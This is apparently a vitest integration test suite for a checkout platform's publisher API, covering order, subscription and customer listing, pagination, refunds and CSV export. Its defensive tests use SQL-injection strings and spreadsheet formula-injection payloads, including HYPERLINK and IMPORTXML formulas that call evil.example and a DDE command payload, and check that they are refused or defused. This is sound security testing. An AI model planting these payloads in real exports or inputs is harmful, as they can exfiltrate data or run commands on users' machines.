import { randomUUID } from "node:crypto";
import type { ListedCustomer, ListedOrder, ListedSubscription } from "@creator-checkout/core/api";
import { buildSignInTestApp } from "@creator-checkout/testing/build-test-app";
import { demoCatalog, demoIds } from "@creator-checkout/testing/demo-catalog";
import { onDemoDatabase } from "@creator-checkout/testing/on-demo-database";
import { otherPublisherCatalog, testClock } from "@creator-checkout/testing/sign-in-helpers";
import { saveTestCard, signedInBuyer } from "@creator-checkout/testing/signed-in-buyer";
import { testDatabases } from "@creator-checkout/testing/test-databases";
import { parse } from "csv-parse/sync";
import { sql } from "drizzle-orm";
import { describe, expect, it } from "vitest";
import type { Db } from "../db/connect";
import {
  charges,
  customers,
  newsletterSubscriptions,
  orders,
  subscriptions,
  users,
} from "../db/schema";
import { LIST_READS_PER_MINUTE } from "../domain/back-office/back-office-limits";
import { importCatalog } from "../domain/catalog/import-catalog";
import { createPublisherKey } from "../domain/publisher-keys/create-publisher-key";

const demo = demoCatalog();
const other = otherPublisherCatalog();
const otherProduct = other.products[0];
const otherOption = otherProduct?.options[0];
if (!otherProduct || !otherOption) throw new Error("the other publisher sells one option");
const company = demo.properties.find((property) => property.label === "Company");
const newsletter = demo.newsletters[0];
if (!company || !newsletter) throw new Error("the demo catalog asks Company and has newsletters");

type Page<Row> = { data: Row[]; next_cursor: string | null };

/** A buyer of the publisher, signed in once with this address (or phone). */
async function buyer(
  db: Db,
  publisherId: string,
  contact: { email?: string; phone?: string },
  more: { createdAt?: Date; answers?: Record<string, unknown> } = {},
) {
  const [user] = await db
    .insert(users)
    .values({ email: contact.email ?? null, phone: contact.phone ?? null })
    .returning({ id: users.id });
  if (!user) throw new Error("no user");
  await db.insert(customers).values({
    publisher_id: publisherId,
    user_id: user.id,
    custom_properties: more.answers ?? {},
    ...(more.createdAt ? { created_at: more.createdAt } : {}),
  });
  return user.id;
}

interface OrderSeed {
  publisherId?: string;
  optionId?: string;
  status?: "pending" | "requires_action" | "paid" | "failed";
  /** An instant as Postgres reads it, to the microsecond. */
  at?: string;
  amount?: number;
}

/** An order as a purchase leaves it; a paid one with its charge. */
async function order(db: Db, userId: string, seed: OrderSeed = {}) {
  const status = seed.status ?? "paid";
  const amount = seed.amount ?? 500;
  const createdAt = seed.at ? sql`${seed.at}::timestamptz` : sql`now()`;
  const [row] = await db
    .insert(orders)
    .values({
      publisher_id: seed.publisherId ?? demoIds.publisher,
      user_id: userId,
      product_option_id: seed.optionId ?? demoIds.monthly,
      kind: "purchase",
      idempotency_key: randomUUID(),
      request_fingerprint: "seeded",
      amount,
      currency: "USD",
      status,
      created_at: createdAt,
    })
    .returning({ id: orders.id });
  if (!row) throw new Error("no order");
  if (status === "paid") {
    await db.insert(charges).values({
      order_id: row.id,
      gateway: "test",
      charge_ref: `ch_${randomUUID()}`,
      amount,
      currency: "USD",
      status: "succeeded",
      created_at: createdAt,
    });
  }
  return row.id;
}

describe.each(testDatabases())(
  "the publisher's orders, subscriptions and customers, on $name",
  (kind) => {
    const keys = { demo: "", other: "" };
    const context = onDemoDatabase(kind, async ({ database }) => {
      await importCatalog(database, other);
      keys.demo = (
        await createPublisherKey(database.db, { username: demo.publisher.username })
      ).key;
      keys.other = (
        await createPublisherKey(database.db, { username: other.publisher.username })
      ).key;
      return buildSignInTestApp(database.db, testClock());
    });
    const db = () => context.database.db;

    async function list<Row>(
      path: "orders" | "subscriptions" | "customers",
      query: Record<string, string | number> = {},
      key = keys.demo,
    ) {
      const response = await context.app.inject({
        method: "GET",
        url: `/api/publisher/${path}`,
        query: Object.fromEntries(Object.entries(query).map(([name, value]) => [name, `${value}`])),
        headers: { authorization: `Bearer ${key}` },
      });
      return { response, page: response.json() as Page<Row> };
    }

    it("answers only the key's publisher's rows, and nobody's without a key", async () => {
      const shared = `both-${randomUUID()}@example.com`;
      const atDemo = await buyer(db(), demoIds.publisher, { email: shared });
      const onlyOther = `only-other-${randomUUID()}@example.com`;
      await buyer(db(), other.publisher.id, { email: onlyOther });
      const demoOrder = await order(db(), atDemo);
      const otherOrder = await order(db(), atDemo, {
        publisherId: other.publisher.id,
        optionId: otherOption.id,
      });

      const seenByDemo = await list<ListedOrder>("orders", { email: shared });
      expect(seenByDemo.response.statusCode).toBe(200);
      expect(seenByDemo.page.data.map((row) => row.id)).toEqual([demoOrder]);
      const seenByOther = await list<ListedOrder>("orders", { limit: 100 }, keys.other);
      expect(seenByOther.page.data.map((row) => row.id)).toEqual([otherOrder]);
      const otherCustomers = await list<ListedCustomer>("customers", { limit: 100 }, keys.other);
      expect(otherCustomers.page.data.map((row) => row.email)).toEqual([onlyOther]);
      const demoCustomers = await list<ListedCustomer>("customers", { email: onlyOther });
      expect(demoCustomers.page.data).toEqual([]);

      for (const authorization of [undefined, "Bearer ccpk_not-a-key", `Bearer ${keys.demo}x`]) {
        const refused = await context.app.inject({
          method: "GET",
          url: "/api/publisher/orders?format=csv",
          headers: authorization ? { authorization } : {},
        });
        expect(refused.statusCode).toBe(401);
        expect(refused.json().message).toMatch(/key/i);
      }
    });

    it("lists a purchase made through the checkout, with its charge, subscription and buyer", async () => {
      const { email, headers } = await signedInBuyer(context.app, db());
      await saveTestCard(context.app, headers);
      const bought = await context.app.inject({
        method: "POST",
        url: `/api/purchase/product/${demoIds.supporter}`,
        headers: { ...headers, "idempotency-key": randomUUID() },
        payload: {},
      });
      expect(bought.statusCode, bought.body).toBe(200);
      const orderId = bought.json().order_id;

      const [listed] = (await list<ListedOrder>("orders", { email })).page.data;
      expect(listed).toMatchObject({
        id: orderId,
        status: "paid",
        option: { id: demoIds.supporter },
        customer: { email },
        charges: [{ amount: listed?.amount, currency: listed?.currency, status: "succeeded" }],
        discount_amount: 0,
        promotion_code: null,
      });
      const [subscription] = (await list<ListedSubscription>("subscriptions", { email })).page.data;
      expect(subscription).toMatchObject({ status: "ACTIVE", option: { id: demoIds.supporter } });
      // The purchase started the subscription, as its order.paid event says.
      expect(listed?.subscription_id).toBe(subscription?.id);
      const csv = await context.app.inject({
        method: "GET",
        url: "/api/publisher/orders",
        query: { email, format: "csv" },
        headers: { authorization: `Bearer ${keys.demo}` },
      });
      expect(csv.body).toContain(subscription?.id);
      expect((await list<ListedCustomer>("customers", { email })).page.data).toHaveLength(1);
    });

    it("shows a partial refund on its order, in the page and in the CSV", async () => {
      const { email, headers } = await signedInBuyer(context.app, db());
      await saveTestCard(context.app, headers);
      const bought = await context.app.inject({
        method: "POST",
        url: `/api/purchase/product/${demoIds.supporter}`,
        headers: { ...headers, "idempotency-key": randomUUID() },
        payload: {},
      });
      expect(bought.statusCode, bought.body).toBe(200);
      const orderId: string = bought.json().order_id;
      const refunded = await context.app.inject({
        method: "POST",
        url: `/api/publisher/orders/${orderId}/refunds`,
        headers: { authorization: `Bearer ${keys.demo}`, "idempotency-key": randomUUID() },
        payload: { amount: 100, reason: "Late delivery" },
      });
      expect(refunded.statusCode, refunded.body).toBe(201);
      const refundId: string = refunded.json().refund.id;

      const [listed] = (await list<ListedOrder>("orders", { email })).page.data;
      expect(listed?.refunded_amount).toBe(100);
      expect(listed?.refunds).toEqual([
        {
          id: refundId,
          amount: 100,
          currency: listed?.currency,
          status: "succeeded",
          reason: "Late delivery",
          created_at: expect.stringMatching(/^\d{4}-\d{2}-\d{2}T/),
        },
      ]);
      const csv = await context.app.inject({
        method: "GET",
        url: `/api/publisher/orders?format=csv&email=${encodeURIComponent(email)}`,
        headers: { authorization: `Bearer ${keys.demo}` },
      });
      const records: Record<string, string>[] = parse(csv.body, { columns: true });
      expect(records).toEqual([expect.objectContaining({ id: orderId, refunded_amount: "100" })]);
    });

    it("pages through 60 orders seven at a time, each once, while new orders arrive", async () => {
      const userId = await buyer(db(), demoIds.publisher, { email: `pager-${randomUUID()}@e.com` });
      const seeded = new Set<string>();
      // Three orders share each second, and pairs of them the same millisecond: the cursor must
      // tell them apart to the microsecond and by id.
      for (let index = 0; index < 60; index++) {
        const second = String(Math.floor(index / 3)).padStart(2, "0");
        const micro = String(index % 3).padStart(6, "0");
        seeded.add(await order(db(), userId, { at: `2030-05-05T10:00:${second}.${micro}Z` }));
      }
      const seen: string[] = [];
      let cursor: string | null = null;
      let pages = 0;
      do {
        const query: Record<string, string | number> = {
          limit: 7,
          created_from: "2030-05-05",
          created_to: "2030-05-05",
        };
        if (cursor) query.cursor = cursor;
        const { response, page } = await list<ListedOrder>("orders", query);
        expect(response.statusCode, response.body).toBe(200);
        expect(page.data.length).toBeLessThanOrEqual(7);
        seen.push(...page.data.map((row) => row.id));
        cursor = page.next_cursor;
        pages++;
        // Orders made meanwhile, some newer than all, some now: none of them moves the rest.
        await Promise.all([
          order(db(), userId, { at: "2030-06-01T00:00:00Z" }),
          order(db(), userId, { at: "2030-05-05T10:00:30Z" }),
          order(db(), userId),
        ]);
      } while (cursor && pages < 20);
      expect(pages).toBe(9);
      expect(seen).toHaveLength(60);
      expect(new Set(seen)).toEqual(seeded);
    });

    it("filters by contact, status and creation day", async () => {
      const email = `Filter-${randomUUID()}@Example.com`;
      const userId = await buyer(db(), demoIds.publisher, { email: email.toLowerCase() });
      const phoneUser = await buyer(db(), demoIds.publisher, { phone: "+14155550142" });
      const paid = await order(db(), userId, { at: "2029-03-01T12:00:00Z" });
      const failed = await order(db(), userId, { status: "failed", at: "2029-03-02T23:59:59Z" });
      const later = await order(db(), userId, { status: "pending", at: "2029-03-03T00:00:00Z" });
      const byPhone = await order(db(), phoneUser, { optionId: demoIds.dayPass });

      const ids = async (query: Record<string, string>) =>
        (await list<ListedOrder>("orders", { limit: 100, ...query })).page.data.map(
          (row) => row.id,
        );
      expect(await ids({ email: ` ${email} ` })).toEqual([later, failed, paid]);
      expect(await ids({ email, status: "failed" })).toEqual([failed]);
      expect(await ids({ email, created_from: "2029-03-02", created_to: "2029-03-02" })).toEqual([
        failed,
      ]);
      expect(await ids({ email, created_to: "2029-03-01T12:00:00Z" })).toEqual([paid]);
      expect(await ids({ phone: "(415) 555-0142" })).toEqual([byPhone]);

      const [listed] = (await list<ListedOrder>("orders", { email, status: "paid" })).page.data;
      expect(listed).toMatchObject({
        id: paid,
        kind: "purchase",
        status: "paid",
        amount: 500,
        currency: "USD",
        customer: { email: email.toLowerCase(), phone: null },
        product: { id: demoIds.membership, title: "Northwind Membership" },
        option: { id: demoIds.monthly, title: "Monthly" },
        charges: [{ amount: 500, currency: "USD", status: "succeeded" }],
      });
      expect(listed).toMatchObject({ refunds: [], refunded_amount: 0 });
      const [unpaid] = (await list<ListedOrder>("orders", { email, status: "pending" })).page.data;
      expect(unpaid?.charges).toEqual([]);
    });

    it("lists subscriptions with their option and period, and customers with answers and newsletters", async () => {
      const email = `member-${randomUUID()}@example.com`;
      const userId = await buyer(
        db(),
        demoIds.publisher,
        { email },
        { answers: { [company.id]: "Acme, Inc." } },
      );
      await db()
        .insert(newsletterSubscriptions)
        .values({ user_id: userId, newsletter_id: newsletter.id, publisher_id: demoIds.publisher });
      const orderId = await order(db(), userId);
      const periodEnd = new Date("2031-01-01T00:00:00Z");
      await db()
        .insert(subscriptions)
        .values({
          publisher_id: demoIds.publisher,
          user_id: userId,
          product_id: demoIds.membership,
          product_option_id: demoIds.monthly,
          order_id: orderId,
          status: "ACTIVE",
          recurring: true,
          current_period_start: new Date("2030-12-01T00:00:00Z"),
          current_period_end: periodEnd,
          renewal_amount: 500,
          currency: "USD",
          cancel_at_period_end: true,
        });

      const active = await list<ListedSubscription>("subscriptions", { email, status: "ACTIVE" });
      expect(active.page.data).toEqual([
        expect.objectContaining({
          status: "ACTIVE",
          option: { id: demoIds.monthly, title: "Monthly" },
          current_period_end: periodEnd.toISOString(),
          cancel_at_period_end: true,
          renewal_amount: 500,
          customer: { email, phone: null },
        }),
      ]);
      expect((await list("subscriptions", { email, status: "CANCELED" })).page.data).toEqual([]);
      // A pass of the same buyer is listed beside it, and left out of the subscriptions alone.
      const passOrder = await order(db(), userId, { optionId: demoIds.dayPass });
      await db()
        .insert(subscriptions)
        .values({
          publisher_id: demoIds.publisher,
          user_id: userId,
          product_id: demoIds.pass,
          product_option_id: demoIds.dayPass,
          order_id: passOrder,
          status: "ACTIVE",
          recurring: false,
          current_period_start: new Date("2030-12-01T00:00:00Z"),
        });
      const recurringOf = async (query: Record<string, string>) =>
        (await list<ListedSubscription>("subscriptions", { email, ...query })).page.data.map(
          (row) => row.recurring,
        );
      expect(await recurringOf({})).toEqual([false, true]);
      expect(await recurringOf({ recurring: "true" })).toEqual([true]);
      expect(await recurringOf({ recurring: "false" })).toEqual([false]);
      expect((await list("subscriptions", { recurring: "yes" })).response.statusCode).toBe(400);
      // A status in any case.
      for (const status of ["active", "Active"]) {
        const { response, page } = await list<ListedSubscription>("subscriptions", {
          email,
          status,
        });
        expect(response.statusCode, response.body).toBe(200);
        expect(page.data.map((row) => row.status)).toEqual(["ACTIVE", "ACTIVE"]);
      }
      expect((await list("orders", { email, status: "PAID" })).response.statusCode).toBe(200);

      const customer = await list<ListedCustomer>("customers", { email });
      expect(customer.page.data).toEqual([
        expect.objectContaining({
          id: userId,
          email,
          custom_properties: [{ id: company.id, label: "Company", value: "Acme, Inc." }],
          newsletters: [expect.objectContaining({ id: newsletter.id, name: newsletter.name })],
        }),
      ]);
    });

    it("refuses forged cursors, limits and filters with a sentence", async () => {
      const forge = (value: unknown) => Buffer.from(JSON.stringify(value)).toString("base64url");
      const queries: Array<Record<string, string | number>> = [
        { cursor: "abc" },
        { cursor: "!!!not-base64!!!" },
        { cursor: forge({ at: "2030-01-01T00:00:00.000000Z" }) },
        { cursor: forge({ at: "yesterday", id: randomUUID() }) },
        { cursor: forge({ at: "2030-01-01T00:00:00.000000Z", id: "'; DROP TABLE orders; --" }) },
        { cursor: forge({ at: "2030-01-01T00:00:00.000000Z", id: randomUUID(), more: 1 }) },
        { cursor: forge(["2030-01-01", randomUUID()]) },
        { cursor: "x".repeat(1_000) },
        { limit: 0 },
        { limit: 101 },
        { limit: "abc" },
        { limit: 1.5 },
        { limit: -1 },
        { status: "refunded" },
        { created_from: "yesterday" },
        { created_from: "2030-02-30" },
        { created_from: "2030-03-02", created_to: "2030-03-01" },
        { phone: "12" },
        { format: "xlsx" },
      ];
      for (const query of queries) {
        const { response } = await list("orders", query);
        expect(response.statusCode, JSON.stringify(query)).toBe(400);
        const { message } = response.json();
        expect(message, JSON.stringify(query)).toMatch(/\w.*\.$/);
      }
      const fine = await list("orders", {
        cursor: forge({ at: "2099-01-01T00:00:00.000000Z", id: randomUUID() }),
        limit: 1,
      });
      expect(fine.response.statusCode).toBe(200);
    });

    it.each([
      [
        { from: "2026-13-40" },
        /^Invalid query string: from is not a parameter of this list; creation dates are filtered with created_from and created_to, such as 2026-11-01\.$/,
      ],
      [
        { from: "2026-11-01", to: "2026-11-30" },
        /^Invalid query string: from, to are not parameters of this list;/,
      ],
      [{ created_from: "2026-13-40" }, /created_from must be a date such as 2026-11-01/],
      [{ created_from: "2026-02-29" }, /created_from must be a date such as 2026-11-01/],
      [{ created_to: "2026-04-31T10:00:00+02:00" }, /created_to must be a date such as 2026-11-01/],
      [{ created_to: "2026-11-01T24:00:00Z" }, /created_to must be a date such as 2026-11-01/],
      [{ created_from: "01/11/2026" }, /created_from must be a date such as 2026-11-01/],
    ])("refuses the dates %o with a sentence, in every list", async (query, message) => {
      for (const path of ["orders", "subscriptions", "customers"] as const) {
        const { response } = await list(path, query);
        expect(response.statusCode, path).toBe(400);
        expect(response.json()).toEqual({
          error: "BAD_REQUEST",
          message: expect.stringMatching(message),
        });
      }
    });

    it("answers hostile values in every filter with the key with a 4xx or a page, never a 5xx", async () => {
      const values = ["\u0000", "' OR 1=1 --", "x".repeat(5_000), "😀", "%ZZ", "\uD800", "-1"];
      const fields = ["email", "phone", "cursor", "status", "created_from", "created_to", "limit"];
      for (const [network, path] of ["orders", "subscriptions", "customers"].entries()) {
        for (const field of fields) {
          for (const value of values) {
            const response = await context.app.inject({
              method: "GET",
              url: `/api/publisher/${path}`,
              query: { [field]: value },
              headers: { authorization: `Bearer ${keys.demo}` },
              // A network of its own per list, so each is read in full within its limit and
              // these requests do not spend the other tests' limit.
              remoteAddress: `203.0.113.${network + 1}`,
            });
            expect(response.statusCode, `${path} ${field}=${value.slice(0, 20)}`).toBeLessThan(500);
            expect(response.statusCode).not.toBe(429);
            if (response.statusCode >= 400) expect(response.json().message).toMatch(/\w/);
          }
        }
      }
    });

    it("exports 250 orders as one CSV that parses back to the same values, formulas defused", async () => {
      const hostile = [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")@example.com',
        "+cmd|' /C calc'!A0@example.com",
        "-2+3@example.com",
        "@SUM(1+1)@example.com",
        '"quoted, with commas"@example.com',
        '"line\r\nbreak"@example.com',
        "\tTab@example.com",
      ];
      const expected = new Map<string, string>();
      for (let index = 0; index < 250; index++) {
        const base = hostile[index % hostile.length] ?? "";
        const email = base.replace("@example.com", `${index}@example.com`);
        const userId = await buyer(db(), demoIds.publisher, { email });
        const minute = String(index % 60).padStart(2, "0");
        const hour = String(Math.floor(index / 60)).padStart(2, "0");
        const id = await order(db(), userId, { at: `2032-01-01T${hour}:${minute}:00Z` });
        expected.set(id, email);
      }
      await order(db(), await buyer(db(), demoIds.publisher, { email: "outside@example.com" }), {
        at: "2032-01-02T00:00:00Z",
      });

      const response = await context.app.inject({
        method: "GET",
        url: "/api/publisher/orders?format=csv&created_from=2032-01-01&created_to=2032-01-01",
        headers: { authorization: `Bearer ${keys.demo}` },
      });
      expect(response.statusCode).toBe(200);
      expect(response.headers["content-type"]).toBe("text/csv; charset=utf-8");
      expect(response.headers["content-disposition"]).toMatch(
        /^attachment; filename="northwind-orders-\d{4}-\d{2}-\d{2}\.csv"$/,
      );
      const records: Record<string, string>[] = parse(response.body, { columns: true });
      expect(records).toHaveLength(250);
      expect(new Set(records.map((record) => record.id))).toEqual(new Set(expected.keys()));
      for (const record of records) {
        const email = expected.get(record.id ?? "") ?? "";
        const runsAsFormula = /^[=+\-@\t\r]/.test(email);
        expect(record.email).toBe(runsAsFormula ? `'${email}` : email);
        expect(record).toMatchObject({
          status: "paid",
          amount: "500",
          charge_status: "succeeded",
          refunded_amount: "0",
        });
      }
      const times = records.map((record) => record.created_at ?? "");
      expect(times).toEqual([...times].sort().reverse());
    });

    it("exports customers with a column per question and their answers defused", async () => {
      const answer = '=IMPORTXML("http://evil.example", "//a")';
      const email = `answers-${randomUUID()}@example.com`;
      await buyer(db(), demoIds.publisher, { email }, { answers: { [company.id]: answer } });
      const response = await context.app.inject({
        method: "GET",
        url: `/api/publisher/customers?format=csv&email=${encodeURIComponent(email)}`,
        headers: { authorization: `Bearer ${keys.demo}` },
      });
      expect(response.statusCode).toBe(200);
      const records: Record<string, string>[] = parse(response.body, { columns: true });
      expect(records).toEqual([expect.objectContaining({ email, Company: `'${answer}` })]);
      expect(Object.keys(records[0] ?? {})).toEqual(
        expect.arrayContaining(demo.properties.map((property) => property.label)),
      );
    });

    it("answers ten readers at once alike, and slows a flood of reads with a 429", async () => {
      const same = await Promise.all(
        Array.from({ length: 10 }, () => list<ListedOrder>("orders", { limit: 5 })),
      );
      const first = JSON.stringify(same[0]?.page);
      for (const { response, page } of same) {
        expect(response.statusCode).toBe(200);
        expect(JSON.stringify(page)).toBe(first);
      }
      const flood = await Promise.all(
        Array.from({ length: LIST_READS_PER_MINUTE + 10 }, () => list("customers", { limit: 1 })),
      );
      const statuses = flood.map(({ response }) => response.statusCode);
      expect(statuses).toContain(429);
      expect(statuses.every((status) => status === 200 || status === 429)).toBe(true);
    });
  },
);
